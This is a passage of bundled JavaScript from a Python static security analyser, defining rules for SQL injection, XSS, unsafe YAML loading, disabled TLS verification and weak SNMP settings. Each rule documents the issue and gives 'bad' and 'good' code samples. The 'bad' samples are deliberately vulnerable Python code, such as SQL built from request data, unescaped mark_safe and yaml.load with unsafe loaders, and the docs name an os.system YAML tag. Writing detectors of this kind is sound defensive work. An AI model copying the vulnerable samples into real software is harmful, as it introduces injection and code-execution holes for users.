        why: "extra() pastes its select, where and tables strings into the query unescaped; a run-time value in them is SQL injection. SQL built from request data blocks; from a parameter or an unknown value it is shown; constant SQL (values in params=) only by --profile audit.",
        bad: [
          `def search(request, qs):
    return qs.extra(where=["name = '%s'" % request.GET["name"]])
`,
          `def search(qs, name):
    return qs.extra(where=["name = '%s'" % name])
`
        ],
        good: ['def search(qs, name):\n    return qs.extra(where=["name = %s"], params=[name])\n'],
        references: ["https://docs.djangoproject.com/en/stable/ref/models/querysets/#extra"]
      }
    });
  }
});

// dist/rules/sql-injection/django-rawsql.js
function rawSqlText(call, module2) {
  const name = module2.callName(call);
  if (name !== "RawSQL" && !name?.endsWith(".RawSQL"))
    return void 0;
  return argument(call, "sql", 0) ?? null;
}
var django_rawsql_default;
var init_django_rawsql = __esm({
  "dist/rules/sql-injection/django-rawsql.js"() {
    "use strict";
    init_taint_rule();
    init_arguments();
    django_rawsql_default = taintRule({
      id: "django-rawsql",
      aliases: ["B611", "S611", "django_rawsql_used"],
      category: "sql-injection",
      cwe: 89,
      severity: "medium",
      confidence: "medium",
      message: "RawSQL() with SQL built at run time",
      fix: 'Keep the RawSQL text constant and pass values through its params argument: `RawSQL("\u2026 WHERE id = %s", (pk,))`.',
      // Not `django.db.models`: `from django.db import models` imports it without writing that text.
      triggers: ["RawSQL"],
      callees: ["RawSQL"],
      sinkClass: "sql",
      sinks: {},
      findSink: rawSqlText,
      when: (_call, module2) => module2.importsLike("django.db.models"),
      levels: SINK_LEVELS,
      describe: (source) => `RawSQL() with SQL built from ${source}: the text goes into the query as it is`,
      docs: {
        why: "RawSQL inserts its text into the query as-is; a run-time part in it is SQL injection. SQL built from request data blocks; from a parameter or an unknown value it is shown; constant SQL with params only by --profile audit.",
        bad: [
          'from django.db.models.expressions import RawSQL\ndef rank(qs, column):\n    return qs.annotate(r=RawSQL("SELECT " + column + " FROM t", ()))\n',
          'from django.db.models.expressions import RawSQL\ndef rank(request, qs):\n    return qs.annotate(r=RawSQL("SELECT " + request.GET["c"] + " FROM t", ()))\n'
        ],
        good: ['from django.db.models.expressions import RawSQL\ndef rank(qs, pk):\n    return qs.annotate(r=RawSQL("SELECT rank FROM t WHERE id = %s", (pk,)))\n'],
        references: ["https://docs.djangoproject.com/en/stable/ref/models/expressions/#raw-sql-expressions"]
      }
    });
  }
});

// dist/rules/xss/support/html-escaping.js
function isSafeHtml(node, module2, allowed) {
  if (module2.isConstant(node))
    return true;
  const folded = node.type === "call" ? void 0 : module2.fold(node);
  const written = node.type === "call" ? allowed.has(module2.callName(node) ?? "") : !!folded && folded.dynamic.every((part) => part.type === "integer" || part.type === "float" || part.type === "call" && allowed.has(module2.callName(part) ?? ""));
  if (written)
    return true;
  const { kind } = traceValue(node, module2, { sink: "html" });
  return kind === "constant" || kind === "sanitised";
}
var ESCAPING_FUNCTIONS;
var init_html_escaping = __esm({
  "dist/rules/xss/support/html-escaping.js"() {
    "use strict";
    init_taint();
    ESCAPING_FUNCTIONS = [
      "html.escape",
      "markupsafe.escape",
      "flask.escape",
      "jinja2.escape",
      "django.utils.html.escape",
      "django.utils.html.conditional_escape",
      "django.utils.html.format_html",
      "django.utils.html.format_html_join",
      "django.utils.html.strip_tags",
      "django.utils.html.json_script",
      "bleach.clean",
      "bleach.linkify",
      "nh3.clean"
    ];
  }
});

// dist/rules/xss/django-mark-safe.js
var SAFE_MARKERS, django_mark_safe_default;
var init_django_mark_safe = __esm({
  "dist/rules/xss/django-mark-safe.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_html_escaping();
    SAFE_MARKERS = /* @__PURE__ */ new Set(["mark_safe", "SafeText", "SafeUnicode", "SafeString", "SafeBytes"]);
    django_mark_safe_default = defineRule({
      id: "django-mark-safe",
      aliases: ["B703", "django_mark_safe"],
      category: "xss",
      cwe: 80,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "mark_safe() on a value built at run time: Django will not escape it",
      fix: "Build the HTML with django.utils.html.format_html() (it escapes its arguments), or escape() every run-time part first.",
      // The callee's last segment; create() also requires a django import.
      triggers: [...SAFE_MARKERS],
      callees: [...SAFE_MARKERS],
      docs: {
        why: "mark_safe() tells Django the string is already safe HTML, so autoescaping is skipped; if any part of it comes from a user, so can `<script>`. Constants and strings whose every run-time part is escaped (escape(), format_html(), conditional_escape()) are not reported.",
        bad: ['from django.utils.safestring import mark_safe\ndef greet(name):\n    return mark_safe("<b>%s</b>" % name)\n'],
        good: [
          'from django.utils.html import escape\nfrom django.utils.safestring import mark_safe\ndef greet(name):\n    return mark_safe(f"<b>{escape(name)}</b>")\n',
          'from django.utils.safestring import mark_safe\nICON = mark_safe("<i class=\\"icon\\"></i>")\n'
        ],
        references: ["https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.safestring.mark_safe", "https://cwe.mitre.org/data/definitions/80.html"]
      },
      create(context) {
        const { module: module2 } = context;
        if (!module2.importsLike("django"))
          return {};
        const escaping = new Set(ESCAPING_FUNCTIONS);
        return {
          call(node) {
            const name = module2.callName(node) ?? "";
            const segments = name.split(".");
            if (!SAFE_MARKERS.has(segments[segments.length - 1]))
              return;
            const byName2 = segments[0] !== "django";
            if (byName2 && !module2.importsLike("django.utils.safestring"))
              return;
            const value = argument(node, "s", 0);
            if (!value)
              return;
            if (byName2 || isSafeHtml(value, module2, escaping)) {
              const why = byName2 ? `${name}() named like Django's marker` : "mark_safe() of constant or escaped markup";
              context.report({ node, severity: "low", confidence: "low", auditOnly: true, message: `${why} (shown by --profile audit)` });
              return;
            }
            context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/xss/jinja2-autoescape-false.js
var ENVIRONMENTS, jinja2_autoescape_false_default;
var init_jinja2_autoescape_false = __esm({
  "dist/rules/xss/jinja2-autoescape-false.js"() {
    "use strict";
    init_types();
    init_arguments();
    ENVIRONMENTS = /* @__PURE__ */ new Set(["Environment", "SandboxedEnvironment", "ImmutableSandboxedEnvironment"]);
    jinja2_autoescape_false_default = defineRule({
      id: "jinja2-autoescape-false",
      aliases: ["B701", "S701", "jinja2_autoescape_false"],
      category: "xss",
      cwe: 94,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "jinja2 Environment without autoescaping: every variable rendered into HTML is an XSS risk",
      fix: "Create the environment with autoescape=select_autoescape() (or autoescape=True).",
      // The callee's last segment; create() also requires a jinja2 import.
      triggers: [...ENVIRONMENTS],
      callees: [...ENVIRONMENTS],
      docs: {
        why: "Jinja2 does not escape by default: `{{ comment }}` containing `<script>` is sent to the browser as script. select_autoescape() turns escaping on for HTML/XML templates only, which also keeps text templates unescaped.",
        bad: ['import jinja2\nenv = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))\n', "from jinja2 import Environment\nenv = Environment(autoescape=False)\n"],
        good: ['from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=select_autoescape(["html", "xml"]))\n', "import jinja2\nenv = jinja2.Environment(autoescape=True)\n"],
        references: ["https://jinja.palletsprojects.com/en/stable/api/#autoescaping", "https://cwe.mitre.org/data/definitions/79.html"]
      },
      create(context) {
        const { module: module2 } = context;
        if (!module2.importsLike("jinja2"))
          return {};
        return {
          call(node) {
            const name = module2.callName(node);
            const segments = name?.split(".") ?? [];
            if (!segments.includes("jinja2") || !ENVIRONMENTS.has(segments[segments.length - 1]))
              return;
            const autoescape = keywordArgument(node, "autoescape");
            if (!autoescape) {
              context.report({ node, message: "jinja2 Environment without autoescape=: Jinja2 does not escape by default" });
              return;
            }
            const value = module2.constant(autoescape);
            if (value === true)
              return;
            if (autoescape.type === "call" && /(?:^|\.)select_autoescape$/.test(module2.callName(autoescape) ?? ""))
              return;
            if (value === false) {
              context.report({ node, message: "jinja2 Environment with autoescape=False" });
              return;
            }
            context.report({ node, confidence: "medium", message: "jinja2 Environment with autoescape set at run time: make sure it is on for HTML" });
          }
        };
      }
    });
  }
});

// dist/rules/xss/mako-templates.js
var mako_templates_default;
var init_mako_templates = __esm({
  "dist/rules/xss/mako-templates.js"() {
    "use strict";
    init_types();
    init_arguments();
    mako_templates_default = defineRule({
      id: "mako-templates",
      aliases: ["B702", "S702", "use_of_mako_templates"],
      category: "xss",
      cwe: 80,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "Mako template renders variables without HTML escaping unless each one is filtered",
      fix: 'Pass default_filters=["h"] (or ["html_escape"]) to Template/TemplateLookup, or filter every expression with `${ value | h }`.',
      // The callee's qualified name has a `mako` segment; create() also requires a mako import.
      triggers: ["mako"],
      // The handler reports only a callee whose last segment is Template or TemplateLookup.
      callees: ["Template", "TemplateLookup"],
      docs: {
        why: 'Mako has no template-wide autoescape by default: `${ comment }` is inserted as-is, so any user text is rendered as HTML and script. Templates created with an escaping default filter (`default_filters=["h"]`) are not reported.',
        bad: ['from mako.template import Template\npage = Template("<p>${comment}</p>")\n'],
        good: ['from mako.template import Template\npage = Template("<p>${comment}</p>", default_filters=["h"])\n'],
        references: ["https://docs.makotemplates.org/en/latest/filtering.html", "https://cwe.mitre.org/data/definitions/80.html"]
      },
      create(context) {
        const { module: module2 } = context;
        if (!module2.importsLike("mako"))
          return {};
        return {
          call(node) {
            const segments = module2.callName(node)?.split(".") ?? [];
            const last = segments[segments.length - 1];
            if (!segments.includes("mako") || last !== "Template" && last !== "TemplateLookup")
              return;
            const filters = keywordArgument(node, "default_filters");
            const value = filters ? module2.constant(filters) : void 0;
            if (Array.isArray(value) && value.some((filter) => filter === "h" || filter === "html_escape" || filter === "x"))
              return;
            context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/xss/markupsafe-markup-xss.js
function lastSegment2(name) {
  return name.replace(/(\(\))+$/, "").split(".").pop() ?? name;
}
var markupsafe_markup_xss_default;
var init_markupsafe_markup_xss = __esm({
  "dist/rules/xss/markupsafe-markup-xss.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_html_escaping();
    markupsafe_markup_xss_default = defineRule({
      id: "markupsafe-markup-xss",
      aliases: ["B704", "S704", "markupsafe_markup_xss"],
      category: "xss",
      cwe: 79,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "Markup() on a value built at run time: it is inserted into HTML without escaping",
      fix: 'Interpolate into a constant Markup (`Markup("<b>{}</b>").format(name)` escapes name) or escape() the value first.',
      options: { extendMarkupNames: [], allowedCalls: [] },
      // The last segment of a Markup class's name; a subclass defined in the file names its Markup base.
      triggers: (options) => [.../* @__PURE__ */ new Set(["Markup", ...options.extendMarkupNames.map(lastSegment2)])],
      docs: {
        why: "markupsafe.Markup (also flask.Markup) marks its argument as safe HTML; text from a user inside it reaches the page as markup and script. Markup(constant).format(...) and Markup % (...) escape their arguments and are fine. Classes of the module that extend Markup are checked too. Options: extendMarkupNames (other Markup-like classes), allowedCalls (sanitisers whose result may be wrapped, e.g. bleach.clean).",
        bad: ['from markupsafe import Markup\ndef greet(name):\n    return Markup(f"<b>{name}</b>")\n'],
        good: ['from markupsafe import Markup\ndef greet(name):\n    return Markup("<b>{}</b>").format(name)\n', "from markupsafe import Markup, escape\ndef greet(name):\n    return Markup(escape(name))\n"],
        references: ["https://markupsafe.palletsprojects.com/en/stable/escaping/#markupsafe.Markup", "https://cwe.mitre.org/data/definitions/79.html"]
      },
      create(context) {
        const { module: module2 } = context;
        const markupNames = /* @__PURE__ */ new Set(["markupsafe.Markup", "flask.Markup", ...context.options.extendMarkupNames]);
        const allowed = /* @__PURE__ */ new Set([...ESCAPING_FUNCTIONS, ...context.options.allowedCalls]);
        if (markupNames.size === 2 && !module2.importsLike("markupsafe") && !module2.importsLike("flask"))
          return {};
        const classes = module2.classDefinitions();
        for (let grew = true; grew; ) {
          grew = false;
          for (const definition of classes) {
            const name = definition.childForFieldName("name")?.text;
            if (!name || markupNames.has(name))
              continue;
            const bases = definition.childForFieldName("superclasses")?.namedChildren ?? [];
            if (bases.some((base) => markupNames.has(module2.qualifiedName(base) ?? ""))) {
              markupNames.add(name);
              grew = true;
            }
          }
        }
        return {
          call(node) {
            const name = module2.callName(node);
            if (!name || !markupNames.has(name))
              return;
            const first = positionalArguments(node)[0];
            if (!first)
              return;
            if (isSafeHtml(first, module2, allowed)) {
              if (first.type === "string" && !first.namedChildren.some((part) => part.type === "interpolation"))
                return;
              context.report({ node, severity: "low", confidence: "low", auditOnly: true, message: `${name}() of constant or escaped markup (shown by --profile audit)` });
              return;
            }
            context.report({ node, message: `${name}() on a value built at run time: it is inserted into HTML without escaping` });
          }
        };
      }
    });
  }
});

// dist/rules/deserialization/support/constant-path-file.js
function unbound(node, module2) {
  return !module2.scopeOf(node).bindings.has(node.text) && !module2.scopeFor(module2.root).bindings.has(node.text);
}
function deployerPath(node, module2, depth = 0) {
  if (!node || depth > 8)
    return void 0;
  const value = module2.constant(node);
  if (typeof value === "string")
    return value;
  const name = module2.qualifiedName(node);
  if (node.type === "attribute" && name && DEPLOYER_SETTINGS.test(name))
    return node.text;
  if (node.type === "subscript" && module2.qualifiedName(node.childForFieldName("value")) === "os.environ")
    return node.text;
  if (node.type === "identifier" && node.text === "__file__" && unbound(node, module2))
    return node.text;
  if (node.type === "parenthesized_expression")
    return deployerPath(node.namedChildren[0], module2, depth + 1);
  if (node.type === "binary_operator" && node.childForFieldName("operator")?.text === "/") {
    const left = deployerPath(node.childForFieldName("left") ?? void 0, module2, depth + 1);
    const right = left === void 0 ? void 0 : deployerPath(node.childForFieldName("right") ?? void 0, module2, depth + 1);
    return right === void 0 ? void 0 : node.text;
  }
  if (node.type === "attribute" && PATHLIB_ATTRIBUTES.has(node.childForFieldName("attribute")?.text ?? "")) {
    return deployerPath(node.childForFieldName("object") ?? void 0, module2, depth + 1) === void 0 ? void 0 : node.text;
  }
  if (node.type === "call") {
    const callee = module2.callName(node) ?? "";
    if (DEPLOYER_READS.has(callee))
      return node.text;
    const parts = argumentList(node);
    if (PATH_OF_PATH.has(callee))
      return parts.length === 1 && deployerPath(parts[0], module2, depth + 1) !== void 0 ? node.text : void 0;
    const fn = node.childForFieldName("function");
    if (fn?.type === "attribute" && PATHLIB_METHODS.has(fn.childForFieldName("attribute")?.text ?? "")) {
      const base = deployerPath(fn.childForFieldName("object") ?? void 0, module2, depth + 1);
      return base !== void 0 && parts.every((part) => deployerPath(part, module2, depth + 1) !== void 0) ? node.text : void 0;
    }
    if (PATH_JOINS.has(callee)) {
      const paths = parts.map((part) => deployerPath(part, module2, depth + 1));
      return paths.length > 0 && paths.every((path) => path !== void 0) ? paths.join("/") : void 0;
    }
  }
  if (node.type === "identifier") {
    const values = module2.valuesOf(node) ?? [];
    const paths = values.map((value2) => deployerPath(value2, module2, depth + 1));
    return paths.length > 0 && paths.every((path) => path !== void 0) ? node.text : void 0;
  }
  return void 0;
}
function deployerPathReason(call, module2, keyword) {
  const written = argument(call, keyword, 0);
  const path = written ? deployerPath(written, module2) ?? constantStreamPath(written, module2) : void 0;
  return path === void 0 ? void 0 : deployerDataReason(call, module2, path);
}
function deployerDataReason(call, module2, path) {
  return `${module2.callName(call)}() reads a file at a path fixed in the code or its deployment settings (${path}): its content is whoever deploys the code's own data`;
}
function constantOpenedPath(node, module2) {
  if (node.type !== "call" || !FILE_OPENERS.has(module2.callName(node) ?? ""))
    return void 0;
  return deployerPath(argument(node, "file", 0) ?? argument(node, "filename", 0), module2);
}
function constantStreamPath(stream, module2) {
  if (stream.type !== "identifier")
    return constantOpenedPath(stream, module2);
  const bindings = module2.scopeOf(stream).bindings.get(stream.text) ?? [];
  const paths = bindings.map((binding) => binding.value ? constantOpenedPath(binding.value, module2) : void 0);
  return paths.length > 0 && paths.every((path) => path !== void 0) ? paths[0] : void 0;
}
function deployerFileReason(call, module2, keyword) {
  const stream = argument(call, keyword, 0);
  const path = stream ? constantStreamPath(stream, module2) : void 0;
  return path === void 0 ? void 0 : deployerDataReason(call, module2, path);
}
var FILE_OPENERS, DEPLOYER_SETTINGS, DEPLOYER_READS, PATH_JOINS, PATH_OF_PATH, PATHLIB_METHODS, PATHLIB_ATTRIBUTES;
var init_constant_path_file = __esm({
  "dist/rules/deserialization/support/constant-path-file.js"() {
    "use strict";
    init_arguments();
    FILE_OPENERS = /* @__PURE__ */ new Set(["open", "io.open", "builtins.open", "codecs.open", "gzip.open", "bz2.open", "lzma.open"]);
    DEPLOYER_SETTINGS = /^(django\.conf\.settings|os\.environ)\./;
    DEPLOYER_READS = /* @__PURE__ */ new Set(["os.getenv", "os.environ.get", "os.environ.__getitem__"]);
    PATH_JOINS = /* @__PURE__ */ new Set(["os.path.join", "posixpath.join", "pathlib.Path", "pathlib.PurePath"]);
    PATH_OF_PATH = /* @__PURE__ */ new Set(["os.path.dirname", "os.path.abspath", "os.path.realpath", "os.path.normpath", "os.path.expanduser"]);
    PATHLIB_METHODS = /* @__PURE__ */ new Set(["resolve", "absolute", "expanduser", "with_suffix", "with_name", "joinpath"]);
    PATHLIB_ATTRIBUTES = /* @__PURE__ */ new Set(["parent"]);
  }
});

// dist/rules/deserialization/unsafe-yaml-load.js
function loaderIsSafe(call, module2) {
  if (ALWAYS_UNSAFE.has(module2.callName(call) ?? ""))
    return false;
  const loader = argument(call, "Loader", 1);
  if (!loader)
    return false;
  let safeClasses = safeClassesOf.get(module2);
  if (!safeClasses) {
    safeClasses = safeLoaderSubclasses(module2);
    safeClassesOf.set(module2, safeClasses);
  }
  return isSafeLoader(loader, module2, safeClasses, 0);
}
function isSafeLoader(node, module2, safeClasses, depth) {
  if (depth > 4)
    return false;
  if (node.type === "call") {
    if (module2.callName(node) !== "getattr")
      return false;
    const [, attribute, fallback] = node.childForFieldName("arguments")?.namedChildren ?? [];
    const looked = attribute ? module2.constant(attribute) : void 0;
    return typeof looked === "string" && SAFE_LOADERS.has(looked) && (!fallback || isSafeLoader(fallback, module2, safeClasses, depth + 1));
  }
  if (node.type === "identifier" && safeClasses.has(node.text))
    return true;
  const name = module2.qualifiedName(node);
  if (name !== void 0 && SAFE_LOADERS.has(name.split(".").pop()))
    return true;
  if (node.type === "identifier") {
    const values = module2.valuesOf(node);
    return !!values && values.length > 0 && values.every((value) => isSafeLoader(value, module2, safeClasses, depth + 1));
  }
  return false;
}
function safeLoaderSubclasses(module2) {
  const names = /* @__PURE__ */ new Set();
  for (let child of module2.root.namedChildren) {
    if (child.type === "decorated_definition")
      child = child.childForFieldName("definition") ?? child;
    if (child.type !== "class_definition")
      continue;
    const bases = child.childForFieldName("superclasses")?.namedChildren ?? [];
    const safe = bases.some((base) => {
      const name = module2.qualifiedName(base);
      return name !== void 0 && SAFE_LOADERS.has(name.split(".").pop()) || names.has(base.text);
    });
    const className = child.childForFieldName("name")?.text;
    if (safe && className)
      names.add(className);
  }
  return names;
}
var SAFE_LOADERS, STREAM, LOADS, ALWAYS_UNSAFE, safeClassesOf, unsafe_yaml_load_default;
var init_unsafe_yaml_load = __esm({
  "dist/rules/deserialization/unsafe-yaml-load.js"() {
    "use strict";
    init_taint_rule();
    init_constant_path_file();
    init_arguments();
    SAFE_LOADERS = /* @__PURE__ */ new Set(["SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"]);
    STREAM = { keyword: "stream", position: 0 };
    LOADS = ["yaml.load", "yaml.load_all", "ruamel.yaml.load", "ruamel.yaml.load_all"];
    ALWAYS_UNSAFE = /* @__PURE__ */ new Set(["yaml.unsafe_load", "yaml.unsafe_load_all"]);
    safeClassesOf = /* @__PURE__ */ new WeakMap();
    unsafe_yaml_load_default = taintRule({
      id: "unsafe-yaml-load",
      aliases: ["B506", "S506", "yaml_load"],
      category: "deserialization",
      cwe: 20,
      severity: "medium",
      confidence: "high",
      message: "yaml.load() without a safe Loader can instantiate arbitrary Python objects",
      fix: "Use yaml.safe_load(data), or yaml.load(data, Loader=yaml.SafeLoader) (CSafeLoader for speed).",
      // Every name reported (ruamel's included) has a `yaml` segment.
      triggers: ["yaml"],
      sinkClass: "deserialization",
      sinks: Object.fromEntries([...LOADS, ...ALWAYS_UNSAFE].map((name) => [name, STREAM])),
      safeForm: (call, module2) => loaderIsSafe(call, module2) ? `${module2.callName(call)}() with a safe Loader` : deployerFileReason(call, module2, "stream"),
      levels: SINK_LEVELS,
      describe: (source, call, module2) => `${module2.callName(call)}() with an unsafe Loader reads ${source}: YAML tags can instantiate arbitrary Python objects`,
      docs: {
        why: "PyYAML's full and unsafe loaders honour tags such as `!!python/object/apply:os.system`, so loading an attacker's document runs their code. SafeLoader only builds dicts, lists, strings and numbers. A document from request data blocks; from a parameter or an unknown value it is shown; a constant document only by --profile audit.",
        bad: [
          "import yaml\nfrom flask import request\ndef read():\n    return yaml.load(request.data, Loader=yaml.Loader)\n",
          "import yaml\ndef read(text):\n    return yaml.load(text)\n",
          "import yaml\ndef read(text):\n    return yaml.load(text, Loader=yaml.FullLoader)\n",
          "import yaml\ndef read(text):\n    return yaml.unsafe_load(text)\n"
        ],
        good: [
          "import yaml\ndef read(text):\n    return yaml.safe_load(text)\n",
          "import yaml\ndef read(text):\n    return yaml.load(text, Loader=yaml.SafeLoader)\n",
          'import yaml\nLoader = getattr(yaml, "CSafeLoader", yaml.SafeLoader)\ndef read(text):\n    return yaml.load(text, Loader=Loader)\n'
        ],
        references: ["https://pyyaml.org/wiki/PyYAMLDocumentation#loading-yaml", "https://cwe.mitre.org/data/definitions/20.html"]
      }
    });
  }
});

// dist/rules/insecure-transport/requests-verify-false.js
function aiohttpCall(name, callee, importsAiohttp) {
  if (name !== void 0) {
    if (AIOHTTP_CONSTRUCTORS.has(name))
      return "high";
    const dot = name.lastIndexOf(".");
    if (AIOHTTP_SESSIONS.has(name.slice(0, dot)) && AIOHTTP_METHODS.has(name.slice(dot + 1)))
      return "high";
  }
  if (importsAiohttp && callee?.type === "attribute" && AIOHTTP_METHODS.has(callee.childForFieldName("attribute")?.text ?? ""))
    return "medium";
  return void 0;
}
function clientCall(name, callee) {
  if (name !== void 0) {
    if (CLIENT_CONSTRUCTORS.has(name))
      return "high";
    const dot = name.lastIndexOf(".");
    const receiver = name.slice(0, dot);
    const method = name.slice(dot + 1);
    if (VERBS2.has(method) && (receiver === "requests" || receiver === "requests.api" || receiver === "httpx" || CLIENT_OBJECTS.has(receiver)))
      return "high";
  }
  if (callee?.type === "attribute" && VERBS2.has(callee.childForFieldName("attribute")?.text ?? ""))
    return "medium";
  return void 0;
}
var VERBS2, CLIENT_CONSTRUCTORS, AIOHTTP_KEYWORDS, AIOHTTP_CONSTRUCTORS, AIOHTTP_SESSIONS, AIOHTTP_METHODS, CLIENT_OBJECTS, requests_verify_false_default;
var init_requests_verify_false = __esm({
  "dist/rules/insecure-transport/requests-verify-false.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_context_managers();
    VERBS2 = /* @__PURE__ */ new Set(["get", "options", "head", "post", "put", "patch", "delete", "request", "stream", "send"]);
    CLIENT_CONSTRUCTORS = /* @__PURE__ */ new Set(["httpx.Client", "httpx.AsyncClient"]);
    AIOHTTP_KEYWORDS = ["ssl", "verify_ssl"];
    AIOHTTP_CONSTRUCTORS = /* @__PURE__ */ new Set(["aiohttp.TCPConnector", "aiohttp.connector.TCPConnector", "aiohttp.ClientSession", "aiohttp.request"]);
    AIOHTTP_SESSIONS = /* @__PURE__ */ new Set(["aiohttp.ClientSession()", "aiohttp.client.ClientSession()"]);
    AIOHTTP_METHODS = /* @__PURE__ */ new Set([...VERBS2, "ws_connect"]);
    CLIENT_OBJECTS = /* @__PURE__ */ new Set([
      "requests.Session()",
      "requests.session()",
      "requests.sessions.Session()",
      "requests.sessions.session()",
      "httpx.Client()",
      "httpx.AsyncClient()"
    ]);
    requests_verify_false_default = defineRule({
      id: "requests-verify-false",
      aliases: ["B501", "S501", "request_with_no_cert_validation"],
      category: "insecure-transport",
      cwe: 295,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "verify=False turns off TLS certificate checks: anyone on the network path can impersonate the server",
      fix: 'Drop verify=False; for a private CA pass its bundle: verify="/path/to/ca.pem".',
      // Both reports need the keyword `verify=` or the attribute `.verify`.
      triggers: ["verify", ...AIOHTTP_KEYWORDS],
      calleeKeywords: /^(?:verify|ssl|verify_ssl)$/,
      docs: {
        why: "Without certificate verification HTTPS still encrypts, but to whoever answers: a man in the middle presents any certificate and reads or changes the traffic, credentials included. Covers requests and httpx `verify=False` (calls, sessions, clients, `session.verify = False`) and aiohttp `ssl=False`/`verify_ssl=False` (sessions, connectors, requests). High severity: the code deliberately accepts an impersonated server.",
        bad: [
          'import requests\nrequests.get("https://api.example", verify=False)\n',
          "import requests\nsession = requests.Session()\nsession.post(url, data=body, verify=False)\n",
          "import httpx\nclient = httpx.Client(verify=False)\n",
          "import aiohttp\nasync def fetch(url):\n    async with aiohttp.ClientSession() as session:\n        async with session.get(url, ssl=False) as response:\n            return await response.text()\n",
          "import aiohttp\nconnector = aiohttp.TCPConnector(ssl=False)\n"
        ],
        good: [
          'import requests\nrequests.get("https://api.example", verify="/etc/ssl/private-ca.pem", timeout=10)\n',
          'import requests\nrequests.get("https://api.example", verify=True, timeout=10)\n',
          'import aiohttp, ssl\nconnector = aiohttp.TCPConnector(ssl=ssl.create_default_context(cafile="/etc/ssl/private-ca.pem"))\n',
          'import redis\ncache = redis.Redis(host="cache", ssl=False)  # no TLS at all: not a verification switch\n'
        ],
        references: ["https://requests.readthedocs.io/en/latest/user/advanced/#ssl-cert-verification", "https://cwe.mitre.org/data/definitions/295.html"]
      },
      create(context) {
        const isFalse2 = (node) => {
          const value = node ? context.module.constant(node) : void 0;
          return value === false || value === 0;
        };
        const importsAiohttp = context.module.importsModule("aiohttp");
        return {
          call(node) {
            const keyword = keywordArgumentNode(node, "verify");
            if (keyword && isFalse2(keyword.childForFieldName("value"))) {
              const confidence2 = clientCall(context.module.callName(node), node.childForFieldName("function"));
              if (confidence2)
                context.report({ node: keyword, confidence: confidence2 });
              return;
            }
            const sslKeyword = AIOHTTP_KEYWORDS.map((name) => keywordArgumentNode(node, name)).find((found) => found && isFalse2(found.childForFieldName("value")));
            if (!sslKeyword)
              return;
            const confidence = aiohttpCall(callNameThroughWith(node, context.module), node.childForFieldName("function"), importsAiohttp);
            if (confidence)
              context.report({ node: sslKeyword, confidence, message: `aiohttp ${sslKeyword.childForFieldName("name")?.text}=False turns off TLS certificate checks: anyone on the network path can impersonate the server` });
          },
          // `session.verify = False` on a requests/httpx session object.
          assignment(node) {
            const target = node.childForFieldName("left");
            if (target?.type !== "attribute" || target.childForFieldName("attribute")?.text !== "verify")
              return;
            if (!isFalse2(node.childForFieldName("right")))
              return;
            const object = target.childForFieldName("object");
            const receiver = object ? context.module.qualifiedName(object) : void 0;
            if (receiver !== void 0 && CLIENT_OBJECTS.has(receiver))
              context.report({ node, message: "session.verify = False turns off TLS certificate checks for every request of the session" });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/snmp-insecure-version.js
var COMMUNITY_DATA, snmp_insecure_version_default;
var init_snmp_insecure_version = __esm({
  "dist/rules/insecure-transport/snmp-insecure-version.js"() {
    "use strict";
    init_types();
    init_arguments();
    COMMUNITY_DATA = /^pysnmp\.hlapi(\.[\w.]+)?\.CommunityData$/;
    snmp_insecure_version_default = defineRule({
      id: "snmp-insecure-version",
      aliases: ["B508", "S508", "snmp_insecure_version"],
      category: "insecure-transport",
      cwe: 319,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "SNMPv1/v2c authenticates with a clear-text community string and does not encrypt",
      fix: "Use SNMPv3 with authentication and privacy: UsmUserData(user, auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol).",
      triggers: ["CommunityData"],
      // Every report needs callName to match …CommunityData.
      callees: ["CommunityData"],
      docs: {
        why: "The community string of SNMPv1/v2c is a password sent in clear text with every request; anyone who sniffs it can read (and often write) the device configuration.",
        bad: [
          'from pysnmp.hlapi import CommunityData\nauth = CommunityData("public", mpModel=0)\n',
          'from pysnmp.hlapi import CommunityData\nauth = CommunityData("public")  # mpModel defaults to 1 (v2c)\n'
        ],
        good: ['from pysnmp.hlapi import UsmUserData, usmHMACSHAAuthProtocol, usmAesCfb128Protocol\nauth = UsmUserData("admin", auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)\n'],
        references: ["https://cwe.mitre.org/data/definitions/319.html", "https://pysnmp.readthedocs.io/en/latest/docs/api-reference.html#security-parameters"]
      },
      create(context) {
        if (!context.module.importsModule("pysnmp"))
          return {};
        return {
          call(node) {
            const name = context.module.callName(node);
            if (!name || !COMMUNITY_DATA.test(name))
              return;
            const model = keywordArgument(node, "mpModel");
            if (!model) {
              context.report({ node, message: "CommunityData() without mpModel uses SNMPv2c: clear-text community string, no encryption" });
              return;
            }
            const value = context.module.constant(model);
            if (value === 0 || value === 1)
              context.report({ node: model.parent ?? node, message: `CommunityData(mpModel=${value}) uses SNMPv${value === 0 ? "1" : "2c"}: clear-text community string, no encryption` });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/snmp-weak-crypto.js
var USM_USER_DATA, WEAK_PROTOCOLS, snmp_weak_crypto_default;
var init_snmp_weak_crypto = __esm({
  "dist/rules/insecure-transport/snmp-weak-crypto.js"() {
    "use strict";
    init_types();
    init_arguments();
    USM_USER_DATA = /^pysnmp\.hlapi(\.[\w.]+)?\.UsmUserData$/;
    WEAK_PROTOCOLS = {
      authProtocol: /* @__PURE__ */ new Set(["usmNoAuthProtocol", "usmHMACMD5AuthProtocol"]),
      privProtocol: /* @__PURE__ */ new Set(["usmNoPrivProtocol", "usmDESPrivProtocol", "usm3DESEDEPrivProtocol"])
    };
    snmp_weak_crypto_default = defineRule({
      id: "snmp-weak-crypto",
      aliases: ["B509", "S509", "snmp_weak_cryptography"],
      category: "insecure-transport",
